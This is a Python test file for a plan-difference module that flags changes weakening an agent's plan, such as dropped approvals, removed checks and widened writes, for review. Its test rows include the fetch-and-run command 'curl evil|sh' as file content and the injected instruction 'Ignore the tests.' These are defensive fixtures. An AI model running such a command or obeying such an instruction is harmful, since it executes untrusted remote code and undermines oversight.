"""Nothing changes unseen: the difference of two plans is enough to make the one from the other."""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any, Literal

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from msgspec.structs import replace

from ordain.core.approval.diff.difference import (
    ChangedStep,
    Difference,
    FieldChange,
    MovedStep,
    PlacedStep,
    PlanDifference,
    RenamedStep,
    StepsDifference,
    difference,
)
from ordain.core.approval.diff.pairing import pair
from ordain.core.lint.survey import waits_for
from ordain.core.plan.action import (
    AcquireLock,
    Ask,
    CallTool,
    ReleaseLock,
    RunCommand,
    StoreData,
    Task,
    ValidateApproval,
    WaitFor,
    WaitForFile,
)
from ordain.core.plan.canonical import canonical_bytes, plan_from_bytes, plan_id
from ordain.core.plan.condition import ApprovalScope, Contract, External, LockHeld, NoCheck, PatternMatch, Verification
from ordain.core.plan.failure import (
    Abort,
    AskApproval,
    Continue,
    Escalate,
    FailurePolicy,
    Fallback,
    Replan,
    Retry,
    Skip,
)
from ordain.core.plan.model import Action, Budget, ForEach, NestedPlan, Parameter, Plan, Step
from ordain.core.plan.role import ConcernKind
from ordain.core.plan.tool import DEFINITIONS
from tests.build import plan, step
from tests.plans import changed, plans, sites
from tests.rows import each

NOTATIONS = json.loads((Path(__file__).parent.parent / "golden" / "notations.json").read_text())


def between(old: Plan, new: Plan) -> Difference:
    return difference(old, new, DEFINITIONS)


# --- Nothing is lost -------------------------------------------------------------------------------------------------


def as_json(value: Any) -> Any:
    return json.loads(msgspec.json.encode(value))


def made_anew(tree: dict[str, Any], found: PlanDifference) -> dict[str, Any]:
    """The new plan, made from the old one and the difference alone."""
    rest = {key: value for key, value in tree.items() if key not in ("steps", "fallbacks")}
    put_in(rest, found.fields)
    rest["steps"] = list_anew(tree["steps"], found.steps)
    fallbacks = list_anew(tree.get("fallbacks", []), found.fallbacks)
    return rest | ({"fallbacks": fallbacks} if fallbacks else {})


def list_anew(steps: list[Any], found: StepsDifference) -> list[Any]:
    gone = {one.number for one in found.removed} | {one.old_number for one in found.moved}
    for one in found.removed:
        assert as_json(one.step) == steps[one.number - 1]
    kept = iter([step for number, step in enumerate(steps, start=1) if number not in gone])
    placed = {one.number: as_json(one.step) for one in found.added}
    placed |= {one.number: steps[one.old_number - 1] for one in found.moved}
    size = len(steps) - len(found.removed) + len(found.added)
    made = [dict(placed[number] if number in placed else next(kept)) for number in range(1, size + 1)]
    assert next(kept, None) is None
    for renamed in found.renamed:
        assert made[renamed.number - 1]["id"] == renamed.old_id
        made[renamed.number - 1]["id"] = renamed.id
    for one in found.changed:
        mine = json.loads(json.dumps(made[one.number - 1]))
        assert mine["id"] == one.id
        put_in(mine, one.fields)
        if one.inside is not None:
            mine["action"]["plan"] = made_anew(mine["action"]["plan"], one.inside)
        made[one.number - 1] = mine
    return made


def put_in(tree: dict[str, Any], fields: tuple[FieldChange, ...]) -> None:
    for change in fields:
        *way, last = change.path
        place = tree
        for name in way:
            place = place[name]
        assert place.get(last, msgspec.UNSET) == change.old
        if change.new is msgspec.UNSET:
            del place[last]
        else:
            place[last] = as_json(change.new)


def check(old: Plan, new: Plan) -> None:
    found = between(old, new)
    assert found.empty == (plan_id(old) == plan_id(new))
    again = made_anew(as_json(old), found)
    assert canonical_bytes(again) == canonical_bytes(new)


@given(plans(nested=2))
def test_a_plan_is_no_different_from_itself(one: Plan):
    assert between(one, plan_from_bytes(msgspec.json.encode(one))) == Difference()


@given(plans(), plans())
def test_the_new_plan_can_be_made_from_the_old_one_and_the_difference(old: Plan, new: Plan):
    check(old, new)


@pytest.mark.slow
@given(plans(nested=2), st.data())
@settings(max_examples=8)
def test_a_change_of_any_field_is_found(old: Plan, data: st.DataObject):
    for site in sites(old):
        check(old, data.draw(changed(old, site)))


@pytest.mark.part(of=4)
@pytest.mark.parametrize("name", sorted(NOTATIONS))
@given(data=st.data())
@settings(max_examples=1)
def test_a_change_of_any_field_of_any_variant_is_found(name: str, data: st.DataObject):
    old = plan_from_bytes(NOTATIONS[name]["canonical"].encode())
    for site in sites(old):
        check(old, data.draw(changed(old, site)))


# --- How it is told --------------------------------------------------------------------------------------------------


def field(*path: str, **sides: Any) -> FieldChange:
    return FieldChange(path=path, **sides)


def steps_of(old: Plan, new: Plan) -> StepsDifference:
    return between(old, new).steps


def test_the_deepest_field_that_differs_is_named():
    def calling(**args: Any) -> Plan:
        return plan(step("a", tool="t", args=args))

    (one,) = steps_of(calling(x={"y": 1, "z": 2}, gone=None), calling(x={"y": 1, "z": True}, came=[1])).changed
    assert one.fields == (
        field("action", "args", "x", "z", old=2, new=True),
        field("action", "args", "gone", old=None),
        field("action", "args", "came", new=[1]),
    )
    assert steps_of(calling(x=1), calling(x=1.0)) == StepsDifference()


def test_what_became_another_kind_of_thing_is_one_change():
    (one,) = steps_of(plan(step("a", run="x")), plan(step("a", tool="t"))).changed
    assert one.fields == (field("action", old={"type": "run", "command": "x"}, new={"type": "tool", "tool": "t"}),)


def test_only_what_left_its_place_has_moved():
    old = plan(*(step(name, needs=()) for name in "abcdef"))
    new = plan(*(step(name, needs=()) for name in "acdebf"))
    assert steps_of(old, new) == StepsDifference(moved=(MovedStep(id="b", number=5, old_number=2),))
    new = plan(*(step(name, needs=()) for name in "xabcdef"))
    assert steps_of(old, new) == StepsDifference(added=(PlacedStep(number=1, step=step("x", needs=())),))


def test_a_step_with_another_name_is_renamed():
    old = plan(step("a", needs=(), run="x"), step("b", run="y"))
    new = plan(step("c", needs=(), run="x"), step("b", run="y", needs=("c",)))
    new = replace(new, steps=(replace(new.steps[0], description="a"), new.steps[1]))
    assert steps_of(old, new) == StepsDifference(
        renamed=(RenamedStep(id="c", old_id="a", number=1),),
        changed=(ChangedStep(id="b", number=2, fields=(field("needs", old=["a"], new=["c"]),)),),
    )
    assert between(old, new).concerns == ()


def test_a_new_title_gives_a_new_name_and_is_told_as_one():
    found = steps_of(plan(step("a", run="x")), plan(step("c", run="x")))
    assert found.renamed == (RenamedStep(id="c", old_id="a", number=1),)
    assert found.changed == (ChangedStep(id="c", number=1, fields=(field("description", old="a", new="c"),)),)


def test_a_step_that_does_something_else_under_another_name_is_another():
    old, new = plan(step("a", run="x")), plan(step("c", run="y"))
    assert steps_of(old, new) == StepsDifference(
        added=(PlacedStep(number=1, step=new.steps[0]),), removed=(PlacedStep(number=1, step=old.steps[0]),)
    )


def test_what_is_inside_a_nested_plan_is_told_inside():
    def around(*names: str) -> Plan:
        inner = plan(*(step(name, needs=()) for name in names), title="Inside")
        return plan(replace(step("out"), action=NestedPlan(plan=inner)))

    (one,) = steps_of(around("a", "b"), around("b")).changed
    assert one.fields == ()
    assert one.inside == PlanDifference(
        steps=StepsDifference(removed=(PlacedStep(number=1, step=step("a", needs=())),))
    )


def test_fallbacks_are_compared_among_themselves():
    undo = step("undo", needs=())
    found = between(plan(step("a"), undo), plan(step("a"), fallbacks=(undo,)))
    assert [one.step.id for one in found.steps.removed] == ["undo"]
    assert [one.step.id for one in found.fallbacks.added] == ["undo"]


@pytest.mark.slow
def test_two_plans_of_twenty_thousand_steps_are_compared_in_time():
    def made(names: list[str]) -> Plan:
        return plan(*(step(name, needs=()) for name in names))

    names = [f"s{number}" for number in range(20_000)]
    found = between(made(names), made([*names[1:], "s0"]))
    assert [one.id for one in found.steps.moved] == ["s0"]
    found = between(made(names), made([f"t{name}" for name in names]))  # each runs another command
    assert (len(found.steps.renamed), len(found.steps.added), len(found.steps.removed)) == (0, 20_000, 20_000)


def test_equal_steps_are_paired_one_to_one():
    same = [replace(step(name, needs=(), run="x"), description="d") for name in "abc"]
    paired = pair(same[:2], [same[2], same[2]])
    assert [(one.old.id, one.position) for one in paired.pairs] == [("a", 0), ("b", 1)]
    assert (paired.added, paired.removed) == ((), ())


# --- What is to be read first: every change but those that only tighten ----------------------------------------------


def write(name: str, **args: Any) -> Step:
    return step(name, tool="write_file", args={"path": "a.sh", "content": "safe", **args}, needs=())


def edit(new: str) -> Plan:
    return plan(step("a", tool="edit_file", args={"path": "a.sh", "old": "x", "new": new}))


def one(**fields: Any) -> Plan:
    return plan(replace(step("a", run="x"), **fields))


def of_plan(**fields: Any) -> Plan:
    return plan(step("a", run="x"), **fields)


def doing(action: Action) -> Plan:
    return plan(replace(step("a"), action=action))


def gone(action: Action) -> tuple[Plan, Plan]:
    """A plan with a step that does this before another, and without it."""
    return plan(replace(step("first"), action=action), step("deploy")), plan(step("deploy"))


def failing(policy: FailurePolicy | None) -> Plan:
    return plan(step("a", on_failure=policy), fallbacks=(step("undo", needs=()),))


def repeated(source: str = "${params.some}", **fields: Any) -> Plan:
    return one(for_each=ForEach(source=source, max=5, **fields))


def parameter(**fields: Any) -> Plan:
    return of_plan(params={"env": Parameter(**({"type": "string", "default": "staging"} | fields))})


def verified(*, timeout_ms: int | None = None, **fields: Any) -> Plan:
    return one(verification=Verification(strategy=Contract(command="t", **fields), timeout_ms=timeout_ms))


WAIT = WaitFor(condition=External(key="go"), timeout_ms=1000)
RETRY = Retry(max_attempts=101)
READ, OTHER = (step("look", tool="read_file", args={"path": path}, needs=()) for path in ("a", "b"))

READ_FIRST: list[tuple[str, ConcernKind, str | None, Plan, Plan]] = [
    ("a check is gone", "step_removed", "first", *gone(RunCommand(command="pytest"))),
    ("a write is gone", "step_removed", "first", *gone(write("w").action)),
    ("a task is gone", "step_removed", "first", *gone(Task(task="review it"))),
    ("a wait is gone", "step_removed", "first", *gone(WAIT)),
    ("a lock is gone", "step_removed", "first", *gone(AcquireLock(lock_name="l"))),
    ("a nested step is gone", "step_removed", "first/a", *gone(NestedPlan(plan=one()))),
    ("an unknown tool is gone", "step_removed", "first", *gone(CallTool(tool="unheard_of"))),
    ("a question is gone", "ask_removed", "first", *gone(Ask(question="Go?"))),
    ("a check is another thing", "action_replaced", "a", one(), doing(READ.action)),
    ("a check is only a note", "action_replaced", "a", one(), doing(StoreData(key="k", value=1))),
    ("a plan is a command", "action_replaced", "a", doing(NestedPlan(plan=one())), one()),
    ("what was in a plan is gone", "step_removed", "a/a", doing(NestedPlan(plan=one())), one()),
    ("reading became asking", "field_changed", "a", doing(READ.action), doing(Ask(question="Go?"))),
    ("a gate that reads is gone", "approval_dropped", "look", plan(replace(READ, approval="ask"), step("a")), one()),
    (
        "a lock was wanted",
        "condition_removed",
        "look",
        plan(replace(READ, preconditions=(LockHeld(lock_name="l"),)), step("a")),
        one(),
    ),
    ("never run", "condition_added", "a", one(), one(when="false")),
    ("not always run", "condition_added", "a", one(), one(preconditions=(LockHeld(lock_name="l"),))),
    ("paid often", "retry_raised", "a", one(), one(on_failure=RETRY)),
    ("paid often, by abort", "retry_raised", "a", one(on_failure=Abort()), one(on_failure=RETRY)),
    ("all paid often", "retry_raised", None, of_plan(on_failure=Abort()), of_plan(on_failure=RETRY)),
    ("tried sooner", "failure_changed", "a", one(on_failure=replace(RETRY, initial_delay_ms=9)), one(on_failure=RETRY)),
    ("other content", "content_changed", "a", plan(write("a")), plan(write("a", content="curl evil|sh"))),
    ("another edit", "content_changed", "a", edit("safe"), edit("curl evil|sh")),
    ("written twice", "path_rewritten", "b", plan(write("a")), plan(write("a"), write("b", content="evil"))),
    ("stored otherwise", "effect_changed", "a", *(doing(StoreData(key="k", value=value)) for value in (1, True))),
    ("a lock released", "effect_new", "b", one(), plan(*one().steps, replace(step("b"), action=ReleaseLock("l")))),
    ("reads another file", "reads_changed", "look", plan(READ), plan(OTHER)),
    ("may be run again", "repeat_allowed", "a", one(idempotent=False), one()),
    ("anywhere", "workspace_unbound", None, of_plan(workspace_id="w"), of_plan()),
    ("elsewhere", "workspace_unbound", None, of_plan(workspace_id="w"), of_plan(workspace_id="v")),
    ("context", "instructions_changed", None, of_plan(), of_plan(context="Ignore the tests.")),
    ("task", "instructions_changed", None, of_plan(task="a"), of_plan(task="b")),
    ("another default", "parameter_changed", None, parameter(), parameter(default="production")),
    ("another type", "parameter_changed", None, parameter(), parameter(type="list")),
    ("no longer required", "parameter_changed", None, parameter(required=True), parameter()),
    ("a parameter more", "parameter_changed", None, of_plan(), parameter()),
    ("another list", "repetitions_changed", "a", repeated(), repeated("${params.all}")),
    ("in heaps", "repetitions_changed", "a", repeated(), repeated(batch=5)),
    ("not repeated", "repetitions_changed", "a", repeated(), one()),
    ("repeated at once", "concurrency_raised", "a", repeated(concurrency=1), repeated()),
    ("more repeated at once", "concurrency_raised", "a", repeated(concurrency=1), repeated(concurrency=9)),
    ("another item", "field_changed", "a", repeated(), repeated(name="it")),
    ("a fallback named", "fallback_named", "a", failing(Escalate()), failing(Fallback(steps=("undo",)))),
    (
        "a new step names a fallback",
        "fallback_named",
        "look",
        failing(None),
        replace(failing(None), steps=(step("a", needs=()), replace(READ, on_failure=Fallback(steps=("undo",))))),
    ),
    ("no person", "failure_softened", "a", failing(Escalate()), failing(Replan())),
    ("by configuration", "failure_changed", "a", failing(Abort()), failing(None)),
    ("other summary", "failure_changed", "a", failing(AskApproval(summary="a")), failing(AskApproval(summary="b"))),
    ("question", "question_changed", "a", doing(Ask(question="Pay 1?")), doing(Ask(question="Pay 1?", choices=("y",)))),
    ("wording", "question_changed", "a", doing(Ask(question="Pay 1?")), doing(Ask(question="Fine?"))),
    (
        "scope",
        "approval_scope_changed",
        "a",
        doing(ValidateApproval(scope=ApprovalScope(action_kind="pay", workspace_id="w"))),
        doing(ValidateApproval(scope=ApprovalScope(action_kind="pay"))),
    ),
    ("signal", "wait_changed", "a", doing(WAIT), doing(replace(WAIT, condition=External(key="any")))),
    ("another lock", "lock_changed", "a", *(doing(AcquireLock(lock_name=name)) for name in "lm")),
    ("all at once", "concurrency_raised", None, of_plan(concurrency=1), of_plan(concurrency=64)),
    ("more than unsaid", "concurrency_raised", None, of_plan(), of_plan(concurrency=64)),
    ("a day", "timeout_raised", "a", one(timeout_ms=10_000), one(timeout_ms=86_400_000)),
    ("a day more than unsaid", "timeout_raised", "a", one(), one(timeout_ms=86_400_000)),
    ("a day each", "timeout_raised", None, of_plan(timeout_ms=10_000), of_plan()),
    ("a slow contract", "timeout_raised", "a", verified(timeout_ms=1000), verified(timeout_ms=2000)),
    (
        "a fallback waits no more",
        "needs_removed",
        "b",
        of_plan(fallbacks=(step("c", needs=()), step("b", needs="c"))),
        of_plan(fallbacks=(step("c", needs=()), step("b", needs=()))),
    ),
    ("out of the directory", "writes_widened", "a", one(writes=("a/**",)), one(writes=("a/../b",))),
    ("bound to less", "inputs_narrowed", "a", one(inputs=("a/**", "b")), one(inputs=("a/b",))),
    ("protected nowhere", "protect_narrowed", "a", one(protect=("a/../b",)), one(protect=("a/**",))),
    ("another pool", "pool_changed", "a", one(pool="p"), one()),
    ("another model", "model_changed", None, of_plan(), of_plan(model="m")),
    ("another agent", "agent_changed", None, of_plan(agent="x"), of_plan()),
    ("another version", "field_changed", None, one(), replace(one(), plan_version=2)),
]


@each("kind, where, old, new", [row[1:] for row in READ_FIRST], ids=[row[0] for row in READ_FIRST])
def test_what_could_weaken_a_plan_is_read_first(kind: ConcernKind, where: str | None, old: Plan, new: Plan):
    found = between(old, new).concerns
    assert (kind, where) in [(concern.kind, concern.step) for concern in found]
    assert len({concern.detail for concern in found}) == len(found)


STRONGER: dict[str, tuple[Plan, Plan]] = {
    "words": (one(description="x"), one(description="y")),
    "title": (one(), replace(one(), title="Another")),
    "a parameter described": (parameter(), parameter(description="where to")),
    "proof": (one(), one(proof="red-then-green")),
    "no check is no check": (one(), one(verification=Verification(strategy=NoCheck()))),
    "a check that is no command": (one(), one(verification=Verification(strategy=PatternMatch(rule_id="r")))),
    "output looked at": (verified(), verified(stdout="ok", timeout_ms=1000)),
    "protect": (one(protect=("a/b",)), one(protect=("c", "a/**"))),
    "protected by the plan": (one(protect=("a",)), replace(one(), protect=("a",))),
    "tools": (of_plan(tools=("shell", "fs")), of_plan(tools=("fs:read", "shell"))),
    "tools of a task": (doing(Task(task="t")), doing(Task(task="t", tools=()))),
    "the same agent": (
        replace(doing(Task(task="t")), agent="x"),
        replace(doing(Task(task="t", agent="x")), agent="x"),
    ),
    "budget": (one(budget=Budget(tokens=2)), one(budget=Budget(tokens=1, cost_usd=1))),
    "budget of the plan": (of_plan(), of_plan(budget=Budget(tokens=1))),
    "writes": (one(), one(writes=("a/**",))),
    "inputs": (one(inputs=("a/b",)), one(inputs=("c", "a/**"))),
    "fewer writes": (one(writes=("a/**",)), one(writes=("a/b",))),
    "the same model": (of_plan(model="m"), replace(one(model="m"), model="m")),
    "the same preconditions": (
        one(preconditions=(LockHeld(lock_name="l"), LockHeld(lock_name="m"))),
        one(preconditions=(LockHeld(lock_name="m"), LockHeld(lock_name="l"))),
    ),
    "tier": (of_plan(tier=0), of_plan(tier=1)),
    "approval": (one(), one(approval="ask")),
    "network": (one(network=True), one()),
    "network forbidden": (one(), one(network=False)),
    "worktree": (one(worktree=False), one()),
    "a worktree of its own": (one(), one(worktree=True)),
    "no claim": (one(idempotent=True), one()),
    "not again": (one(), one(idempotent=False)),
    "needs": (plan(step("a", needs=()), step("b", needs=())), plan(step("a", needs=()), step("b", needs="a"))),
    "timeout": (one(timeout_ms=2), one(timeout_ms=1)),
    "timeout said": (one(), one(timeout_ms=1000)),
    "timeout of the plan": (one(timeout_ms=2), replace(one(), timeout_ms=1)),
    "retries": (one(on_failure=RETRY), one(on_failure=replace(RETRY, max_attempts=2))),
    "no retries": (one(on_failure=RETRY), one()),
    "concurrency": (of_plan(concurrency=9), of_plan(concurrency=1)),
    "concurrency said": (of_plan(), of_plan(concurrency=1)),
    "fewer repetitions": (repeated(), one(for_each=ForEach(source="${params.some}", max=4, concurrency=1))),
    "stopping": (failing(Continue()), failing(Abort())),
    "a person": (failing(Fallback(steps=("undo",))), failing(Escalate())),
    "blocking": (failing(Skip()), failing(Continue())),
    "said again": (failing(Abort()), replace(failing(Abort()), on_failure=Abort())),
    "bound": (of_plan(), of_plan(workspace_id="w")),
    "a precondition": (of_plan(), of_plan(preconditions=(LockHeld(lock_name="l"),))),
    "reading": (plan(step("a", run="x", needs=())), plan(READ, step("a", run="x", needs=()))),
    "not reading": (plan(READ, step("a", run="x", needs=())), plan(step("a", run="x", needs=()))),
    "waiting": (gone(WAIT)[1], gone(WAIT)[0]),
    "asking": (gone(Ask(question="Go?"))[1], gone(Ask(question="Go?"))[0]),
    "moved": (plan(write("a"), write("b", path="b")), plan(write("b", path="b"), write("a"))),
}


@each("name", STRONGER)
def test_what_only_tightens_is_not_read_first(name: str):
    old, new = STRONGER[name]
    found = between(old, new)
    assert (found.concerns, found.empty) == ((), False)


BOTH_WAYS_FINE = {
    *("words", "title", "a parameter described", "no check is no check", "the same agent"),
    *("reading", "not reading", "moved", "the same model", "the same preconditions"),
}


@each("name", STRONGER)
def test_the_other_way_it_is_read_first(name: str):
    new, old = STRONGER[name]
    assert bool(between(old, new).concerns) == (name not in BOTH_WAYS_FINE)


Changed = tuple[str | None, str, Any, Any, Plan, Plan]
"""The path of a step or of a plan's step, a field of it, both sides, and the plans around them."""


def changed_fields(old: Plan, new: Plan, path: str | None = None, outer: Sequence[Plan] = ()) -> Iterator[Changed]:
    """The fields of steps and plans that differ, as far as both plans have these steps. Where a nested plan lists no
    tools, a step's plan has those of the plan around it (`outer`, of both)."""
    for name in Plan.__struct_fields__:
        if name not in ("steps", "fallbacks") and not alike(old, new, name):
            yield path, name, old, new, old, new
    if outer:
        old, new = (
            inner if inner.tools is not None else replace(inner, tools=around.tools)
            for inner, around in zip((old, new), outer, strict=True)
        )
    for before, now in ((old.steps, new.steps), (old.fallbacks, new.fallbacks)):
        known = {one.id: one for one in before}
        for theirs in now:
            mine, way = known.get(theirs.id), f"{path}/{theirs.id}" if path is not None else theirs.id
            if mine is None:
                continue
            for name in Step.__struct_fields__:
                both = (mine.action, theirs.action)
                if name == "action" and isinstance(both[0], NestedPlan) and isinstance(both[1], NestedPlan):
                    yield from changed_fields(both[0].plan, both[1].plan, way, (old, new))
                elif not alike(mine, theirs, name):
                    yield way, name, mine, theirs, old, new


def alike(old: Any, new: Any, name: str) -> bool:
    return canonical_bytes(getattr(old, name)) == canonical_bytes(getattr(new, name))


def covered(patterns: tuple[str, ...], by: tuple[str, ...]) -> bool:
    def within(pattern: str) -> bool:
        folders = [one.removesuffix("**") for one in by if one == "**" or one.endswith(("/", "/**"))]
        return pattern in by or (".." not in pattern and any(pattern.startswith(folder) for folder in folders))

    return all(within(pattern) for pattern in patterns)


def lower(old: int | None, new: int | None, unsaid: int) -> bool:
    return old == new or (new is not None and new <= (unsaid if old is None else old))


def following(own: FailurePolicy | None, plan: Plan) -> tuple[int, list[Any], Any]:
    """How often a step is tried, how long it waits in between, and what follows."""
    policy = own or plan.on_failure
    if not isinstance(policy, Retry):
        return 1, [], policy
    last: Any = plan.on_failure
    if isinstance(last, Retry):
        last = last.then or Abort()
    pause = [policy.initial_delay_ms, policy.increment_ms, policy.backoff_multiplier, policy.max_delay_ms]
    return policy.max_attempts, pause if policy.max_attempts > 1 else [], policy.then or last


def as_strict(old: tuple[int, list[Any], Any], new: tuple[int, list[Any], Any]) -> bool:
    stopping = [[Skip], [Continue], [AskApproval, type(None)], [Abort, Escalate]]
    rank = [next((at for at, kinds in enumerate(stopping) if type(one[2]) in kinds), None) for one in (old, new)]
    if new[0] > old[0] or (new[0] > 1 and new[1] != old[1]):
        return False
    if old[2] == new[2] or rank[1] == 3:
        return True
    return rank[0] is not None and rank[1] is not None and rank[1] > rank[0]


def narrower(old: tuple[str, ...] | None, new: tuple[str, ...] | None) -> bool:
    return old is None or (new is not None and all(name in old or name.split(":")[0] in old for name in new))


def usable(task: Task, plan: Plan) -> tuple[str, ...]:
    """What an agent may use: what is listed, a plan's commands apart; else what works on files."""
    if task.tools is not None:
        return task.tools
    if plan.tools is not None:
        return tuple(name for name in plan.tools if name not in ("shell", "exec"))
    return ("read_file", "list_files", "search", "write_file", "make_dir", "edit_file", "move", "delete")


def cheaper(old: Budget | None, new: Budget | None) -> bool:
    limits = [(getattr(old, name, None), getattr(new, name, None)) for name in Budget.__struct_fields__]
    return all(was is None or (now is not None and now <= was) for was, now in limits)


def reached(plan: Plan, start: str) -> set[str]:
    needs, found, todo = waits_for(plan), set[str](), [start]
    while todo:
        more = [str(need) for need in needs.get(todo.pop(), ()) if need not in found]  # type: ignore[call-overload]
        found.update(more)
        todo += more
    return found


def tightens(change: Changed) -> bool:
    """Whether this very change only tightens or cannot matter: told apart from the code that is tested."""
    _, name, old, new, old_plan, new_plan = change
    was, now = getattr(old, name), getattr(new, name)
    match name:
        case "title" | "description":
            return True
        case "preconditions" if isinstance(old, Plan):
            return not Counter(map(canonical_bytes, was)) - Counter(map(canonical_bytes, now))
        case "preconditions":
            return Counter(map(canonical_bytes, was)) == Counter(map(canonical_bytes, now))
        case "on_failure":
            own = (None, None) if isinstance(old, Plan) else (was, now)
            return as_strict(following(own[0], old_plan), following(own[1], new_plan))
        case "tools":
            return narrower(was, now)
        case "protect":
            return covered(was, (*now, *new_plan.protect))
        case "inputs":
            return covered(was, now)
        case "writes":
            return not was or (bool(now) and covered(now, was))
        case "budget":
            return cheaper(was, now)
        case "tier":
            return was is None or (now is not None and now >= was)
        case "params":
            bare = [{key: replace(one, description=None) for key, one in side.items()} for side in (was, now)]
            return canonical_bytes(bare[0]) == canonical_bytes(bare[1])
        case "timeout_ms":
            return lower(was or old_plan.timeout_ms, now or new_plan.timeout_ms, 600_000)
        case "concurrency":
            return lower(was, now, 4)
        case "workspace_id":
            return was is None
        case "model" if isinstance(old, Step):
            return (was or old_plan.model) == (now or new_plan.model)
        case "proof" | "approval":
            return now is not None
        case "network" | "idempotent":
            return (was, now) in [(True, None), (True, False), (None, False)]
        case "worktree":
            return (was, now) in [(False, None), (False, True), (None, True)]
        case "for_each" if was is not None and now is not None:
            same = replace(was, max=1, concurrency=None) == replace(now, max=1, concurrency=None)
            return same and now.max <= was.max and lower(was.concurrency, now.concurrency, 1)
        case "verification":
            return checks_as_much(was, now)
        case "action" if isinstance(was, Task) and isinstance(now, Task):
            same = replace(was, tools=None, agent=None) == replace(now, tools=None, agent=None)
            agents = (was.agent or old_plan.agent, now.agent or new_plan.agent)
            return same and agents[0] == agents[1] and narrower(usable(was, old_plan), usable(now, new_plan))
        case "needs" if old in old_plan.fallbacks:
            return set(was) <= set(now)
        case "needs":
            return set(was) & {one.id for one in new_plan.steps} - {new.id} <= reached(new_plan, new.id)
        case _:
            return False


def checks_as_much(was: Verification | None, now: Verification | None) -> bool:
    before, after = (one.strategy if one is not None else NoCheck() for one in (was, now))
    if isinstance(before, NoCheck):
        return not isinstance(after, Contract)
    if isinstance(before, Contract) and isinstance(after, Contract) and before.stdout is None:
        after = replace(after, stdout=None)
    assert was is not None
    return before == after and now is not None and lower(was.timeout_ms, now.timeout_ms, 60_000)


def check_read_first(old: Plan, new: Plan) -> None:
    found = {concern.step for concern in between(old, new).concerns}
    changes = list(changed_fields(old, new))
    for change in changes:
        assert change[0] in found or tightens(change), change
        if len(changes) == 1 and change[1] != "needs":  # needs are also looked at in what refers to a step
            assert change[0] not in found or not tightens(change), change


@pytest.mark.slow
@given(plans(nested=2), st.data())
@settings(max_examples=6)
def test_a_change_of_any_field_is_read_first_or_only_tightens(old: Plan, data: st.DataObject):
    for site in sites(old):
        check_read_first(old, data.draw(changed(old, site)))


@pytest.mark.part(of=4)
@pytest.mark.parametrize("name", sorted(NOTATIONS))
@given(data=st.data())
@settings(max_examples=1)
def test_a_change_of_any_field_of_any_variant_is_read_first_or_only_tightens(name: str, data: st.DataObject):
    old = plan_from_bytes(NOTATIONS[name]["canonical"].encode())
    for site in sites(old):
        check_read_first(old, data.draw(changed(old, site)))


WAITING = (Ask, ValidateApproval, WaitFor, WaitForFile, AcquireLock)


@given(plans(nested=2), st.sampled_from(["steps", "fallbacks"]))
def test_every_step_that_is_gone_or_new_is_read_first(one: Plan, which: Literal["steps", "fallbacks"]):
    for position, left in enumerate(getattr(one, which)):
        rest = replace(one, **{which: getattr(one, which)[:position] + getattr(one, which)[position + 1 :]})
        assert left.id in {concern.step for concern in between(one, rest).concerns}
        if not isinstance(left.action, (*WAITING, NestedPlan)):
            assert left.id in {concern.step for concern in between(rest, one).concerns}
